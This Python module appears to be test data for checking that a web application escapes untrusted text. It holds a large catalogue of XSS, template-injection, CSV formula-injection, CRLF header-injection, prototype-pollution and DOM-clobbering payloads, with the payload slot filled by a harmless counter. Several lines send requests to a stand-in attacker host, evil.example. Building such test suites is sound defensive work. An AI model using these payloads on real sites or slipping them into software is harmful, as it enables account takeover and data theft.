"""Texts that try to be more than text, in classes. `§` stands for code that would run and sets a number that tells which text ran."""

from __future__ import annotations

from typing import Final

CLASSES: Final[dict[str, tuple[str, ...]]] = {
    "script": (
        "<script>§</script>", "</script><script>§</script>", "<ScRiPt >§</sCrIpT >", "<script/x>§</script>", "<script\n>§</script\n>",
        "<script src=data:text/javascript,§></script>", "<script src='//evil.example/§'></script>", "<script type=module>§</script>",
        "<<script>§//<</script>", "<scr<script>ipt>§</scr</script>ipt>", "<script>/*</script><script>*/§</script>",
        "<script type='text/hyperscript'>init js(x) § end</script>", "<script nonce=''>§</script>",
    ),
    "event handler": (
        "<img src=x onerror=§>", "<img/src='x'/onerror='§'>", "<body onload=§>", "<input autofocus onfocus=§>", "<details open ontoggle=§>x",
        "<video><source onerror=§></video>", "<audio src=x onerror=§>", "<marquee onstart=§>x</marquee>", "<select autofocus onfocus=§>",
        "<p onpointerrawupdate=§ style=position:fixed;inset:0>x</p>", "<p oncontentvisibilityautostatechange=§ style=content-visibility:auto>x",
        "<style onload=§></style>", "<p id=x onanimationend=§ style='animation:pulse 1ms'>x</p>",
    ),
    "attribute": (
        '" onmouseover="§" autofocus onfocus="§" x="', "' onfocus='§' autofocus tabindex=0 x='", " onfocus=§ autofocus ", '"><img src=x onerror=§>',
        "'><img src=x onerror=§>", '" style="position:fixed;inset:0" onmouseenter="§" ', "` onfocus=§ autofocus `", '"autofocus/onfocus="§',
        '" type=image src=x onerror="§', '" formaction="javascript:§', '"><svg/onload=§ "', '\\" onfocus=§ autofocus \\"', '"\n\nonfocus\n=\n"§" autofocus',
    ),
    "address": (
        "javascript:§", "JaVaScRiPt:§", "java\tscript:§", "\x01javascript:§", "javascript://evil.example/%0a§", "data:text/html,<script>§</script>",
        "vbscript:§", "//evil.example/§", "https://evil.example/§", "/\\evil.example/§", "<a href='javascript:§' autofocus>click</a>",
        "blob:§", "view-source:javascript:§",
    ),
    "svg and math": (
        "<svg onload=§>", "<svg><script>§</script></svg>", "<svg><script href=data:,§ />", "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:§'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>§</script></svg>#x'>",
        "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>", "<svg><set attributeName=href to='javascript:§'>",
        "<math><mtext></p><img src=x onerror=§>", "<math><maction xlink:href='javascript:§'>x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=§&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=§>'>", "<svg><title><img src=x onerror=§></title></svg>",
    ),
    "frame": (
        "<iframe srcdoc='<script>parent.§</script>'></iframe>", "<iframe src='javascript:parent.§'></iframe>", "<iframe onload=§></iframe>",
        "<iframe src='data:text/html,<script>parent.§</script>'></iframe>", "<object data='javascript:§'></object>", "<embed src='javascript:§'>",
        "<object data='data:text/html,<script>§</script>'></object>", "<embed code=//evil.example/§ type=image/svg+xml>", "<frameset onload=§>",
        "<frame src='javascript:§'>", "<portal src='javascript:§'></portal>", "<fencedframe onload=§></fencedframe>", "<applet code='javascript:§'></applet>",
    ),
    "breakout": (
        "</textarea><script>§</script>", "</title><script>§</script>", "</style><script>§</script>", "</noscript><img src=x onerror=§>",
        "</template><img src=x onerror=§>", "</option></select><img src=x onerror=§>", "</td></tr></table><img src=x onerror=§>",
        "</bdi></dd></dl><img src=x onerror=§>", "--><img src=x onerror=§>", "<!--><img src=x onerror=§>-->", "]]><script>§</script>",
        "<![CDATA[<img src=x onerror=§>]]>", "<plaintext><img src=x onerror=§>",
    ),
    "document": (
        "<base href='https://evil.example/§/'>", "<meta http-equiv=refresh content='0;url=https://evil.example/§'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>§</script>", "<link rel=stylesheet href=https://evil.example/§.css>",
        "<link rel=preload as=script href=https://evil.example/§>", "<form action=https://evil.example/§><button autofocus>Accept</button></form>",
        "<input name=verb value=accept form=decide title='§' autofocus>", "<button form=decide name=accept value=all title='§'>Accept</button>",
        "<dialog open><form method=dialog><button autofocus title='§'>OK</button></form></dialog>", "<label for=q title='§'>x</label>",
        "<img src=https://evil.example/§.png>", "<a ping=https://evil.example/§ href=/queue>x</a>", "<p popover id=said title='§'>x</p>",
    ),
    "css": (
        "<style>@import 'https://evil.example/§.css';</style>", "<style>body{display:none}/*§*/</style>", "<p style='background:url(https://evil.example/§)'>x</p>",
        "<p style='width:expression(§)'>x</p>", "<style>*{background:url('javascript:§')}</style>", "}</style><style>*{display:none}/*§*/",
        "<link rel=stylesheet href='data:text/css,*%7Bdisplay:none%7D/*§*/'>", "<style>input[value^=a]{background:url(//evil.example/§)}</style>",
        "<svg><style>*{x:url(//evil.example/§)}</style></svg>", '" style="-moz-binding:url(//evil.example/§)', "<div class='is-gone is-leaving' title='§'>x</div>",
        "</span><style>@keyframes x{}</style><p style=animation-name:x onanimationstart=§>x", "<style>@font-face{font-family:x;src:url(//evil.example/§)}</style>",
    ),
    "htmx": (
        "<div hx-get='/tray?§' hx-trigger=load>x</div>", "<div hx-post='/tray/send' hx-trigger='load' title='§'>x</div>", "<div hx-on::load='§'>x</div>",
        "<div hx-on:htmx:load='§'>x</div>", "<div data-hx-get='/tray?§' data-hx-trigger='load'>x</div>", "<tr id=tray hx-swap-oob=true title='§'><td>gone</td></tr>",
        "<template><tr id=rows hx-swap-oob=true title='§'></tr></template>", "<div hx-vals='js:{x:§}' hx-get=/tray hx-trigger=load>x</div>",
        "<div hx-get=/tray hx-trigger='load[§]'>x</div>", "<div hx-ext='ws' ws-connect='//evil.example/§'>x</div>", "<div hx-boost=true><a href='//evil.example/§'>x</a></div>",
        '" hx-get="/tray?§" hx-trigger="load" x="', "<div hx-headers='js:{x:§}' hx-delete=/tray hx-trigger=load>x</div>",
    ),
    "template": (
        "{{ 7 * 7 }} {% raw %}§{% endraw %}", "{{ context.app_state.workspace.settings.token }} §", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}§{% endfor %}",
        "{{ '§'|safe }}<b>x</b>", "${§}", "#{§}", "<%= § %>", "[[${§}]]", "{{constructor.constructor('§')()}}", "{# § #}", "{user} {repo} {rule} {0.__class__} §",
        "%(user)s %s %n §", "$(§) `§` ${{ § }}",
    ),
    "encoded": (
        "&lt;script&gt;§&lt;/script&gt;", "&#x3c;img src=x onerror=§&#x3e;", "&#60img src=x onerror=§&#62", "%3Cscript%3E§%3C/script%3E", "%253Cscript%253E§%253C/script%253E",
        "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cscript\\x3e§\\x3c/script\\x3e", "＜script＞§＜/script＞", "+ADw-script+AD4-§+ADw-/script+AD4-",
        "&lt;<b>&amp;lt;img src=x onerror=§&amp;gt;</b>", "java&#115;cript:§", "&NewLine;javascript&colon;§", "ʺ＞＜img src=x onerror=§＞",
    ),
    "unseen": (
        "\u202egnp.exe\u202c § right to left", "\u2066\u2067isolated\u2069 zero\u200bwidth\ufeff § joined\u200dletters", "pаypal and Аdmin §", "\x1b[2J\x1b]0;§\x07\x08",
        "\x1b]8;;javascript:§\x1b\\link\x1b]8;;\x1b\\", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0351\u036b\u0343lgo §", "<\u200bscript>§</script>", "<scr\u00adipt>§</script>",
        "\ufffe\uffff\u2028§\u2029", "\u061c\u200e\u200f<img src=x onerror=§>", "\U000e0041\U000e0042 tagged §", "﷽ §", "مرحبا <b>§</b> שלום",
    ),
    "sheet": (
        "=cmd|' /C §'!A0", "+§", "-§", "@SUM(1+1)*§", "\t=§", "\r=§", '=HYPERLINK("https://evil.example/§","click")', '",=§,"', "＝§", '"\r\n"=§"\r\n', ";=§;",
        '=IMPORTXML("https://evil.example/§","//a")', "%0A=§",
    ),
    "data": (
        '"}]</script><script>§</script>', "'};§;//", '\\"};§;//', "\u2028};§;//", "\n\nevent: end\ndata: §\n\n", "data: §\n\n", '{"desk-said":"§"}', "§\r\nSet-Cookie: hf-gate=evil",
        "%0d%0aSet-Cookie:%20x=§", "__proto__[x]=§", '{"__proto__":{"x":"§"}}', "';§;'", "*/§/*",
    ),
    "clobbering": (
        "<form id=bulk title='§'></form>", "<img name=getElementById alt='§'>", "<a id=htmx><a id=htmx name=config href='§'>", "<form name=body><input name=dataset value='§'></form>",
        "<x-evil title='§' is=x></x-evil>", "<p id=r-0 data-request-id=0 data-version=0 title='§'>x</p>", "<i data-wait title='§'></i>", "<b data-key=a data-do=accept title='§'>x</b>",
        "<div><div><div><div title='§'><table><a><table><a>x", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */§ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=§//>\\x3e",
        "'\">><marquee><img src=x onerror=§></marquee>\"></plaintext\\></|\\><plaintext/onmouseover=§><script>§</script>", "§" + "<b>" * 120, "§" + "W" * 300 + " " + "ﷺ" * 60,
    ),
}  # fmt: skip
PAYLOADS: Final = tuple((name, text) for name, texts in CLASSES.items() for text in texts)


def number_of(field: int, turn: int) -> int:
    """What `window.__x` becomes when the text of that field runs in that turn."""
    return 70_000 + 100 * field + turn


def payload(field: int, turn: int) -> str:
    """The text of a field in a turn: over all turns each field meets every class, and over all fields every text is used."""
    texts = list(CLASSES.values())[(field + turn) % len(CLASSES)]
    return texts[(field + turn // len(CLASSES)) % len(texts)].replace("§", f"window.__x={number_of(field, turn)}")


_CALL: Final = "alert(1)"

HOSTILE_ANSWERS: Final = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<math><mtext></p><img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}" x="',
    f"' onfocus='{_CALL}' autofocus x='",
    f"</textarea><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</noscript><img src=x onerror={_CALL}>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<object data='javascript:{_CALL}'>",
    f"<a href='javascript:{_CALL}'>click</a>",
    f"javascript:{_CALL}",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<form action=https://evil.example><button>Accept</button></form>",
    "<input name=verb value=accept form=decide autofocus>",
    "<button form=decide name=accept value=all>Accept</button>",
    "<div hx-get='/tray' hx-trigger=load>x</div>",
    "<div hx-on::load='alert(1)' hx-post='/tray/send' hx-trigger='load'>x</div>",
    "<tr id=tray hx-swap-oob=true><td>gone</td></tr>",
    "<template><tr id=rows hx-swap-oob=true></tr></template>",
    "<dialog open><form method=dialog><button autofocus>OK</button></form></dialog>",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ context.app_state.workspace.settings.token }} ${7*7} <%= 7*7 %> #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
    "@channel <!here> https://evil.example/?q=1",
    "\u202egnp.exe\u202c right to left",
    "\u2066\u2067isolated\u2069 zero\u200bwidth\ufeff joined\u200dletters",
    "pаypal and Аdmin",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319lgo",
    "\x1b[2J\x1b]0;evil\x07\x00null\x08",
    "=cmd|' /C calc'!A0",
    "a" * 5000,
    "W" * 300 + " " + "ﷺ" * 200,
    "\n" * 400 + "below",
    "مرحبا بالعالم <b>و</b> שלום",
    "😀" * 200,
)
